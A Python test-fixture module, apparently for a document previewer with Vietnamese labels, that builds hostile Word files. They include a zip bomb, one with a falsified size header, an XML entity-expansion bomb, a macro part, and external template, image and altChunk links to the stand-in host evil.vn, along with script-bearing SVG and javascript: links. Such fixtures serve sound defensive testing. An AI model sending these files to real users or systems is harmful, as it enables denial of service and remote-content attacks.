"""Word files that nobody should open: too large, broken, with macros, reaching for other hosts."""

import io
import zipfile
from collections.abc import Callable, Mapping

LINK = "bấm vào đây"
_OFFICE = "http://schemas.openxmlformats.org"
_W = (
    f'xmlns:w="{_OFFICE}/wordprocessingml/2006/main" xmlns:r="{_OFFICE}/officeDocument/2006/relationships" '
    f'xmlns:wp="{_OFFICE}/drawingml/2006/wordprocessingDrawing" xmlns:a="{_OFFICE}/drawingml/2006/main" '
    f'xmlns:pic="{_OFFICE}/drawingml/2006/picture" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office"'
)
_KINDS = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="svg" ContentType="image/svg+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_ROOT = f'<Relationship Id="rId1" Type="{_OFFICE}/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'


def _document(body: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><w:document {_W}><w:body>{body}</w:body></w:document>'


def _picture(reference: str) -> str:
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="a"/><a:graphic>'
        f'<a:graphicData uri="{_OFFICE}/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="a"/>'
        f"<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {reference}/></pic:blipFill><pic:spPr/></pic:pic>"
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def _relation(key: str, kind: str, target: str, *, outside: bool = True) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return (
        f'<Relationship Id="{key}" Type="{_OFFICE}/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}"{mode}/>'
    )


EMPTY = {"word/document.xml": _document("<w:p/>")}
REACHING = {
    "word/document.xml": _document(
        f'<w:p><w:hyperlink r:id="l"><w:r><w:t>{LINK}</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:hyperlink r:id="j"><w:r><w:t>và đây</w:t></w:r></w:hyperlink></w:p>'
        + _picture('r:link="p"')
        + _picture('r:embed="p"')
        + _picture('r:embed="s"')
        + '<w:p><w:r><w:pict><v:shape style="width:90pt;height:90pt"><v:imagedata r:id="p"/></v:shape></w:pict></w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE "http://evil.vn/f.png"</w:instrText>'
        '<w:fldChar w:fldCharType="end"/></w:r></w:p><w:altChunk r:id="c"/>'
    ),
    "word/_rels/document.xml.rels": _RELATIONS.format(
        _relation("l", "hyperlink", "http://evil.vn/link")
        + _relation("j", "hyperlink", "javascript:alert(1)")
        + _relation("p", "image", "http://evil.vn/a.png")
        + _relation("s", "image", "media/a.svg", outside=False)
        + _relation("c", "aFChunk", "http://evil.vn/a.html")
        + _relation("f", "fontTable", "http://evil.vn/font.xml")
    ),
    "word/settings.xml": f'<w:settings {_W}><w:attachedTemplate r:id="t"/></w:settings>',
    "word/_rels/settings.xml.rels": _RELATIONS.format(
        _relation("t", "attachedTemplate", "http://evil.vn/t.dotm")
    ),
    "word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
    '<image href="http://evil.vn/b.png" width="9" height="9"/></svg>',
}


def word_file(parts: Mapping[str, str | bytes]) -> bytes:
    """Return a Word file of these parts."""
    whole = {
        "[Content_Types].xml": _KINDS,
        "_rels/.rels": _RELATIONS.format(_ROOT),
        **parts,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in whole.items():
            archive.writestr(name, data)
    return out.getvalue()


def _bomb() -> bytes:
    return word_file({"word/document.xml": _document("<w:p/>" * 10_000_000)})


def _lying() -> bytes:
    """A bomb that says of itself that it is small."""
    data = bytearray(_bomb())
    entry = data.rindex(b"word/document.xml") - 46
    assert data[entry : entry + 4] == b"PK\x01\x02"
    data[entry + 24 : entry + 28] = (500).to_bytes(4, "little")
    return bytes(data)


def _entities() -> bytes:
    grow = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return word_file({
        "word/document.xml": f'<!DOCTYPE d [<!ENTITY a0 "x">{grow}]>'
        + _document("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>").partition("?>")[2]
    })  # fmt: skip


HOSTILE: Mapping[str, Callable[[], bytes]] = {
    "bom": _bomb,
    "noi-doi": _lying,
    "cut": lambda: word_file(REACHING)[:900],
    "rong": lambda: b"",
    "khong-phai": lambda: b"<html><script>alert(1)</script></html>",
    "macro": lambda: word_file({**EMPTY, "word/vbaProject.bin": b"x"}),
    "thuc-the": _entities,
    "xml-hong": lambda: word_file({"word/document.xml": "<w:document><w:body><w:p>"}),
    "thieu-van-ban": lambda: word_file({}),
}
"""Files by what is wrong with them; in each the quick view says that it cannot show it."""
